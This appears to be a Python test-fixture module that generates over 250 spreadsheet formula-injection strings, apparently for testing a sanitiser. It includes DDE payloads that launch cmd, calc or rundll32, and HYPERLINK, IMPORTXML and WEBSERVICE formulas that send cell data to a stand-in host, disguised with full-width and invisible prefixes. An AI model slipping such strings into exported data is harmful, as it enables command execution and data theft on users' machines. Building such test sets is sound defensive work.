"""Texts that a spreadsheet might run, as people who mean harm write them: 250 and more."""

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "＝",
    "＋",
    "－",
    "＠",
    "\N{MINUS SIGN}",
    " =",
    "\u00a0=",
    "\u200b=",
    "\ufeff+",
    "\u2003@",
)
_BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://example.invalid/?x="&A1,"open")',
    'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    'WEBSERVICE("http://example.invalid")',
    "SUM(A1:A9)*cmd|'/C notepad'!A1",
    'DDE("cmd";"/C calc";"x")',
    "rundll32|'x.dll,x'!A",
    "A1",
    "2-3",
    "SUM(1,1)",
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "@SUM(1)",
    "-1",
    "=1",
    "ឯកសារ",
)
PAYLOADS = tuple(start + body for start in _STARTS for body in _BODIES)
assert len(set(PAYLOADS)) >= 250
